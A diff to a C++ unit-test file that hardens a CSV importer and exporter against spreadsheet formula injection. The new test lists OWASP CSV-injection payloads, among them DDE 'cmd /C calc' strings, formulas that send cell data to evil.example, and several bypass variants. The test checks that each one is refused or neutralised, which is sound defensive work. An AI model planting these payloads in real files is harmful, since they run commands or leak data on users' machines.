@@ -7,6 +7,7 @@
 #include <vector>
 
 #include "absl/strings/str_cat.h"
+#include "absl/strings/str_split.h"
 #include "core/csv.h"
 #include "core/file_util.h"
 #include "disclosure/v1/database.pb.h"
@@ -136,8 +137,12 @@ TEST(ProtoCsvTest, CellsOfEveryKind) {
       StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("formula")));
   EXPECT_THAT(SetCell(&e, "retention", "@SUM(1)"),
               StatusIs(absl::StatusCode::kInvalidArgument));
-  DN_EXPECT_OK(SetCell(&e, "contact.phone",
-                       "+886-2-2191-0000"));  // a phone, not a formula
+  // Spreadsheets compute "+886-2-2191-0000" (886 - 2 - 2191 - 0): refused
+  // like every formula, with a way to write it.
+  EXPECT_THAT(SetCell(&e, "contact.phone", "+886-2-2191-0000"),
+              StatusIs(absl::StatusCode::kInvalidArgument,
+                       HasSubstr("886-2-2191-0000")));
+  DN_EXPECT_OK(SetCell(&e, "contact.phone", "886-2-2191-0000"));
   EXPECT_THAT(
       SetCell(&e, "approx_subjects.approx", "many"),
       StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("whole number")));
@@ -151,11 +156,60 @@ TEST(ProtoCsvTest, QuotingForExportsAndTemplates) {
   EXPECT_EQ(CsvQuote("a,b"), "\"a,b\"");
   EXPECT_EQ(CsvQuote("say \"hi\""), "\"say \"\"hi\"\"\"");
   // A formula-like value is neutralised, and reads back as plain text.
-  EXPECT_EQ(CsvQuote("=HYPERLINK(1)"), "\"'=HYPERLINK(1)\"");
-  EXPECT_EQ(CsvQuote("+886-2-2191"), "+886-2-2191");
+  EXPECT_EQ(CsvQuote("=HYPERLINK(1)"), "'=HYPERLINK(1)");
+  EXPECT_EQ(CsvQuote("+886-2-2191"), "'+886-2-2191");
+  EXPECT_EQ(CsvQuote("a; -2+3|=x"), "a;' -2+3|'=x");
+  EXPECT_EQ(CsvQuote("-"), "-");
   auto t = ParseCsv("h\n" + CsvQuote("=1+1") + "\n", CsvLimits());
   ASSERT_TRUE(t.ok());
   EXPECT_FALSE(LooksLikeFormula(t->rows[1].fields[0]));
+}
+
+// The OWASP CSV-injection payloads, and the ways around a first-character
+// check: refused on import, neutralised on export, for every cell.
+const char* const kFormulaPayloads[] = {
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+2+3",
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Error\")",
+    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A1), \"//a\")",
+    " =1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "note; =1+1",
+    "note;=1+1",
+    "ok;\t-2+3",
+    "part|=1+1",
+    "a|b; c|@SUM(A1)",
+    "DDE; =DDE(\"cmd\";\"/C calc\";\"!A0\")",
+};
+
+TEST(ProtoCsvTest, OwaspFormulaPayloadsAreRefusedAndNeutralised) {
+  for (const char* payload : kFormulaPayloads) {
+    SCOPED_TRACE(payload);
+    EXPECT_TRUE(LooksLikeFormula(payload));
+    v1::DatabaseEntry e;
+    EXPECT_THAT(SetCell(&e, "retention", payload),
+                StatusIs(absl::StatusCode::kInvalidArgument,
+                         HasSubstr("formula")));
+    EXPECT_THAT(SetCell(&e, "data_categories", payload),
+                StatusIs(absl::StatusCode::kInvalidArgument,
+                         HasSubstr("formula")));
+    // Written by us and read back, no piece of the cell starts a formula.
+    auto t = ParseCsv("h\n" + CsvQuote(payload) + "\n", CsvLimits());
+    ASSERT_TRUE(t.ok());
+    ASSERT_EQ(t->rows.size(), 2u);
+    for (absl::string_view item :
+         absl::StrSplit(t->rows[1].fields[0], absl::ByAnyChar(";|"))) {
+      EXPECT_FALSE(LooksLikeFormula(item)) << item;
+    }
+  }
+  for (const char* text : {"-", "2026-01-01", "第30條", "a - b", "x;-", "C001; C003"}) {
+    EXPECT_FALSE(LooksLikeFormula(text)) << text;
+  }
 }
 
 // Every template, filled with the example, imports back to the example.
